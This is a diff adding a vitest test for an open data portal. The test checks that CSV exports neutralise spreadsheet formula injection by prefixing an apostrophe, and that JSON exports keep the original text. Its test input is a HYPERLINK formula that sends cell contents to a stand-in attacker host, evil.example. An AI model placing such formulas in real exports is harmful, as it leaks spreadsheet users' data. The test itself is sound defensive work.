@@ -1,5 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { afterAll, describe, expect, it } from 'vitest';
+import { sql } from '#app/utils/db.server';
 import { closeConnections } from '#app/utils/shutdown.server';
 import { Browser } from '../support/app';
 
@@ -65,5 +66,19 @@ describe('the open data portal', () => {
     expect(again.status).toBe(304);
     expect((await client.get('/data/nothing/datapackage.json')).status).toBe(404);
     expect((await client.get('/data/reports/nothing.csv')).status).toBe(404);
+  });
+});
+
+describe('CSV files and spreadsheets', () => {
+  it('defuse a formula a resident typed (a leading \' in CSV), and keep the text as typed in JSON', async () => {
+    const title = `=HYPERLINK("http://evil.example/?"&A1,"Click ${Date.now()}")`;
+    const [idea] = await sql<{ id: number }[]>`
+      INSERT INTO ideas (project_id, title, body) SELECT id, ${title}, '@SUM(1+1) and -2+3 in the body' FROM projects WHERE slug = 'clinics' RETURNING id::int AS id`;
+    const rows = parse(await (await client.get('/data/ideas/ideas.csv')).text(), { columns: true }) as Record<string, string>[];
+    const row = rows.find((r) => r.id === String(idea!.id))!;
+    expect(row.title).toBe(`'${title}`);
+    expect(row.body).toBe(`'@SUM(1+1) and -2+3 in the body`);
+    const json = (await (await client.get('/data/ideas/ideas.json')).json()) as { id: number; title: string }[];
+    expect(json.find((r) => r.id === idea!.id)?.title).toBe(title);
   });
 });
